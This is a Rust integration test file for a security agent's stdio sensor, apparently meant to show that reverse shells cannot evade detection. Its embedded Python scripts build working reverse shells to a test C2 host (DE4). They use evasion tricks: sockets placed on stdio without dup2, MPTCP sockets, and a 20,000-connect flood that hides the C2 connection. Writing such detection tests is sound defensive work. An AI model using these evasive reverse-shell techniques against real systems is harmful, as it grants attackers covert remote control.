//! The `stdio` sensor cannot be walked around (issue "blinds, stalls, stops or fills" §5): a
//! shell whose standard streams became a socket without `dup2` (fds 0–2 closed, then
//! `socket()` and `dup()` take their numbers; also on stdout and stderr behind a stdin that is
//! a pipe), a shell on an `IPPROTO_MPTCP` socket, and a
//! shell whose C2 connect was pushed out of the agent's outbound memory by 20,000 cheap
//! localhost connects are each a `reverse_shell` on the C2. Root, real python3 and sh, the
//! real agent; the C2 is the test host `DE4` (a listener that holds every connection), in a
//! network namespace of this test's. Every assertion is about the processes this test started.

mod common;

use std::process::Command;

use common::{
    Agent,
    netns::{DE4, TestNet},
    procs::{Procs, hold_connections},
    require_root, serial,
};

const PORT: u16 = 4455;

/// Start `python3 -c script` (in `procs`) and wait for its `reverse_shell` on `DE4`.
fn caught(agent: &Agent, procs: &mut Procs, what: &str, script: &str) -> serde_json::Value {
    let pid = procs
        .spawn(Command::new("/usr/bin/python3").args(["-c", script]))
        .id();
    agent.wait_for("alert", &format!("reverse_shell for {what}"), |a| {
        a["anomaly"] == "reverse_shell" && a["pid"] == pid && a["target_ip"] == DE4
    })
}

#[test]
fn a_socket_that_lands_on_stdio_without_dup2_is_caught_at_exec() {
    if !require_root("a_socket_that_lands_on_stdio_without_dup2_is_caught_at_exec") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("se");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");
    // No dup2/dup3 anywhere: the socket takes fd 0, dup() takes 1 and 2.
    let script = format!(
        "import os, socket\n\
         for fd in (0, 1, 2): os.close(fd)\n\
         s = socket.socket(); s.connect(('{DE4}', {PORT}))\n\
         assert s.fileno() == 0\n\
         os.dup(0); os.dup(0)\n\
         os.set_inheritable(0, True); os.set_inheritable(1, True); os.set_inheritable(2, True)\n\
         os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])\n"
    );
    let a = caught(
        &agent,
        &mut procs,
        "socket() + dup() on closed stdio",
        &script,
    );
    assert!(a["detail"].as_str().unwrap().contains("stdin"), "{a}");
}

#[test]
fn a_socket_on_stdout_and_stderr_behind_another_stdin_is_caught_at_exec() {
    if !require_root("a_socket_on_stdout_and_stderr_behind_another_stdin_is_caught_at_exec") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("so");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");
    // fd 0 a pipe, fds 1 and 2 the socket (socket() and dup() take their numbers): the check
    // at exec must look past a stdin that is no socket, at the file the next slots hold.
    let script = format!(
        "import os, socket\n\
         r, w = os.pipe(); os.dup2(r, 0)\n\
         os.close(1); os.close(2)\n\
         s = socket.socket(); s.connect(('{DE4}', {PORT}))\n\
         assert s.fileno() == 1\n\
         os.dup(1)\n\
         os.set_inheritable(1, True); os.set_inheritable(2, True)\n\
         os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])\n"
    );
    let a = caught(&agent, &mut procs, "a socket on stdout and stderr", &script);
    let detail = a["detail"].as_str().unwrap();
    assert!(
        detail.contains("stdout") && !detail.contains("stdin"),
        "{a}"
    );
}

#[test]
fn an_mptcp_socket_on_stdio_is_a_tcp_one() {
    if !require_root("an_mptcp_socket_on_stdio_is_a_tcp_one") {
        return;
    }
    let enabled = std::fs::read_to_string("/proc/sys/net/mptcp/enabled").unwrap_or_default();
    if enabled.trim() != "1" {
        eprintln!(
            "SKIPPED an_mptcp_socket_on_stdio_is_a_tcp_one: MPTCP is disabled in this kernel \
             (net.mptcp.enabled = {enabled:?})"
        );
        return;
    }
    let _serial = serial();
    let net = TestNet::new("sm");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");
    let script = format!(
        "import os, socket\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n\
         s.connect(('{DE4}', {PORT}))\n\
         for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\n\
         os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])\n"
    );
    caught(&agent, &mut procs, "an MPTCP socket", &script);
}

#[test]
fn a_flood_of_connects_does_not_make_the_c2_look_accepted() {
    if !require_root("a_flood_of_connects_does_not_make_the_c2_look_accepted") {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("sf");
    let mut procs = Procs::default();
    hold_connections(&net, PORT, &mut procs);
    let agent = Agent::start("");
    // The C2 first, then 20,000 connects to a closed localhost port (more than the agent's
    // outbound memory holds), then the socket goes on stdio.
    let script = format!(
        "import os, socket\n\
         c2 = socket.socket(); c2.connect(('{DE4}', {PORT}))\n\
         for i in range(20000):\n\
         \x20   s = socket.socket(); s.setblocking(False)\n\
         \x20   try: s.connect(('127.0.0.1', 9))\n\
         \x20   except OSError: pass\n\
         \x20   s.close()\n\
         for fd in (0, 1, 2): os.dup2(c2.fileno(), fd)\n\
         os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])\n"
    );
    let pid = procs
        .spawn(Command::new("/usr/bin/python3").args(["-c", &script]))
        .id();
    // The flood takes a while; the alert follows it.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let found = agent
            .events("alert")
            .into_iter()
            .any(|a| a["anomaly"] == "reverse_shell" && a["pid"] == pid && a["target_ip"] == DE4);
        if found {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no reverse_shell after the flood:\n{}",
            agent.log()
        );
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
}
